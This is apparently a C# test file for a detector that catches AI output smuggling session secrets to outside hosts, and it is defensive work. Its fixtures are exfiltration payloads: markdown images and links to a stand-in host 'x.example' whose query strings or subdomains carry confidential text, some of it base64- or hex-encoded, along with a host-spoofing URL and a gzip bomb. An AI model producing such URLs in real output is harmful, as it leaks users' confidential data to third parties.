using System.Collections.Immutable;
using System.Reflection;
using Cordon.Contracts;
using FsCheck;
using FsCheck.Fluent;

namespace Cordon.Detection.Tests.Exfiltration;

public sealed class SessionContentTests
{
    private const string Held = "The merger with Northwind closes on the ninth of May, and the account is 4402-8819-0034.";

    private static readonly SessionContentDetector Detector = new(DetectionSettings.Default);

    private static readonly string[] Pieces =
    [
        "![a](", ")", "https://", "x.example", "/", "?d=", "&e=", "#", "merger-with-northwind-closes-on-the-ninth-of-may", "bWVyZ2VyIHdpdGggTm9ydGh3aW5kIGNsb3Nlcw", "4402-8819-0034",
        "merger.with.northwind.closes.on.x.example", " ", "\n", "<img src=\"", "\">", "jane@", "[x]", "%20", "h", "//", "\\/\\/", "and so on", "é", "\ud83d",
    ];

    public static TheoryData<string> Rules => [.. HeldVector.All.Keys];

    [Theory]
    [MemberData(nameof(Rules))]
    public void A_rule_finds_what_it_must_and_nothing_that_it_must_not(string rule)
    {
        (List<HeldVector> match, List<HeldVector> miss) = HeldVector.All[rule];
        Assert.NotEmpty(match);
        Assert.NotEmpty(miss);
        Assert.All(match, vector => Assert.Contains(vector.Find(Detector), finding => finding.Rule == rule));
        Assert.All(miss, vector => Assert.DoesNotContain(vector.Find(Detector), finding => finding.Rule == rule));
    }

    [Fact]
    public void Every_rule_has_vectors()
    {
        IEnumerable<string> rules = typeof(CarriedRule).GetFields(BindingFlags.Static | BindingFlags.Public).Where(field => field.IsLiteral).Select(field => (string)field.GetRawConstantValue()!);
        Assert.Equal(rules.Order(), HeldVector.All.Keys.Order());
    }

    [Fact]
    public void The_span_is_the_address_and_what_is_said_of_it_quotes_nothing()
    {
        const string text = "See [this](https://x.example/?d=merger+with+Northwind+closes+on+the+ninth) now";
        Finding finding = Assert.Single(Find(text));
        Assert.Equal("https://x.example/?d=merger+with+Northwind+closes+on+the+ninth", text[finding.Start..finding.End]);
        Assert.DoesNotContain("Northwind", finding.Explanation, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Allowed_hosts_may_be_told_everything_and_their_imitations_nothing()
    {
        SessionContentDetector detector = new(DetectionSettings.Default with { AllowedHosts = ["docs.example.com"] });
        Assert.Empty(Of(detector, "![](https://docs.example.com/?d=merger+with+Northwind+closes+on+the+ninth)"));
        Assert.Single(Of(detector, "![](https://docs.example.com@x.example/?d=merger+with+Northwind+closes+on+the+ninth)"));

        static List<Finding> Of(IDetector detector, string text) => HeldVector.Find(detector, text, Surface.Assistant, Session());
    }

    [Fact]
    public void Nothing_is_compared_where_nothing_is_held_or_no_address_stands()
    {
        bool isAsked = false;
        HeldSession session = new(() =>
        {
            isAsked = true;
            return [];
        });
        Assert.Empty(HeldVector.Find(Detector, "![](https://x.example/?d=merger+with+Northwind+closes)", Surface.Assistant, null));
        Assert.Empty(HeldVector.Find(Detector, "The merger with Northwind closes on the ninth of May: 3/4 and a\\b.", Surface.Assistant, session));
        Assert.False(isAsked);
        Assert.Empty(HeldVector.Find(Detector, "https://x.example/?d=merger+with+Northwind", Surface.Assistant, session));
        Assert.True(isAsked);
    }

    [Fact]
    public void A_text_without_an_address_costs_nothing_but_a_look()
    {
        string text = string.Concat(Enumerable.Repeat("The weather in Rome is lovely in spring, and trains run on time. ", 400));
        PreparedText prepared = PreparedText.Of(text, LiteralIndex.Of([]));
        DetectionContext context = new(Surface.Assistant, Direction.Response, Trust.Untrusted, Held: Session());
        List<Finding> findings = [];
        Detector.Detect(prepared, context, findings);
        long before = GC.GetAllocatedBytesForCurrentThread();
        Detector.Detect(prepared, context, findings);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 64);
    }

    [Fact]
    public void A_stream_releases_no_character_of_what_is_still_to_come() =>
        Prop.ForAll(ArbMap.Default.ArbFor<int[]>(), picks =>
        {
            HeldSession session = Session();
            StreamPromise.Holds(Detector, StreamPromise.Compose(Pieces, picks), new DetectionContext(Surface.Assistant, Direction.Response, Trust.Untrusted, Held: session));
            StreamPromise.Holds(Detector, StreamPromise.Compose(Pieces, picks), new DetectionContext(Surface.ToolCall, Direction.Response, Trust.Untrusted, Held: session));
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(300));

    [Fact]
    public void Any_stretch_that_is_long_enough_is_known_wherever_it_begins()
    {
        string text = string.Concat(Enumerable.Range(0, 300).Select(i => $"word{i * 7919 % 1000:D3}"));
        ImmutableArray<HeldContent> held = [HeldContent.Remembered([new HeldText(Surface.Document, text, [])])];
        ushort[] units = new ushort[text.Length * 2];
        Units.Write(text, units);
        for (int start = 0; start + HeldContent.Surely <= text.Length; start++)
        {
            Assert.True(HeldMatch.In(units.AsSpan(start, HeldContent.Surely), held).Brought >= HeldContent.Run);
        }
    }

    [Fact]
    public void What_is_held_is_bounded_and_the_last_texts_go_first()
    {
        string Long(string word) => string.Concat(Enumerable.Range(0, 20_000).Select(i => $"{word}{i} "));
        HeldContent content = HeldContent.Of([.. Enumerable.Range(0, 10).Select(i => new HeldText(Surface.Document, Long($"t{(char)('a' + i)}"), []))]);
        Assert.InRange(content.Count, 1, HeldContent.MostCharacters);
        Assert.False(Knows(content, Long("ta")[..200]));
        Assert.True(Knows(content, Long("tj")[..200]));
        Assert.False(Knows(content, Long("tj")[(HeldContent.MostCharactersOfText + 500)..][..200]));

        HeldContent numbers = HeldContent.Of([new HeldText(Surface.Document, string.Join(' ', Enumerable.Range(0, 5_500).Select(i => $"K{i:D8}X")), [])]);
        Assert.True(numbers.HasValues);
        Assert.InRange(numbers.Count, HeldContent.MostValues, HeldContent.MostValues + HeldContent.MostCharactersOfText);

        static bool Knows(HeldContent content, string text)
        {
            ushort[] units = new ushort[text.Length * 2];
            return !HeldMatch.In(units.AsSpan(0, Units.Write(text, units)), [content]).IsNothing;
        }
    }

    [Fact]
    public void What_is_packed_in_what_is_packed_is_read_up_to_a_depth_a_size_and_a_number()
    {
        Unwrapping deep = new([HeldContent.Of([new HeldText(Surface.Document, Held, [])])]);
        string wrapped = "merger with Northwind closes on the ninth";
        for (int depth = 0; depth < Unwrapping.Deepest; depth++)
        {
            wrapped = Convert.ToHexString(System.Text.Encoding.UTF8.GetBytes(wrapped));
        }

        Assert.True(deep.Read(wrapped).IsEncoded);
        Assert.True(new Unwrapping([]).Read(Convert.ToHexString(System.Text.Encoding.UTF8.GetBytes(wrapped))).Match.IsNothing);

        using MemoryStream bomb = new();
        using (System.IO.Compression.GZipStream zip = new(bomb, System.IO.Compression.CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zip.Write(System.Text.Encoding.UTF8.GetBytes(new string('a', 1_000_000) + Held));
        }

        Assert.All(Decodings.Of(Convert.ToBase64String(bomb.ToArray())), text => Assert.InRange(text.Length, 1, Unwrapping.MostUnpacked));
    }

    [Theory]
    [InlineData("https://x.example/?d=YWJjZGVmZ2hpams ")]
    [InlineData("https://a.b.c.d.e.f.g.h.x.example/616263646566676869 ")]
    [InlineData("![](https://x.example/?merger+with+Northwind) ")]
    [InlineData("http://")]
    [InlineData("a.b.")]
    [InlineData("//a/")]
    public void Packed_text_is_read_to_its_end(string piece)
    {
        string text = string.Concat(Enumerable.Repeat(piece, 100_000 / piece.Length));
        foreach (Surface surface in (ReadOnlySpan<Surface>)[Surface.Assistant, Surface.ToolCall])
        {
            List<Finding> findings = HeldVector.Find(Detector, text, surface, Session());
            Assert.All(findings, finding => Assert.InRange(finding.End, finding.Start + 1, text.Length));
        }
    }

    private static HeldSession Session()
    {
        ImmutableArray<HeldContent> content = [HeldContent.Of([new HeldText(Surface.Document, Held, [])])];
        return new HeldSession(() => content);
    }

    private static List<Finding> Find(string text) => HeldVector.Find(Detector, text, Surface.Assistant, Session());
}
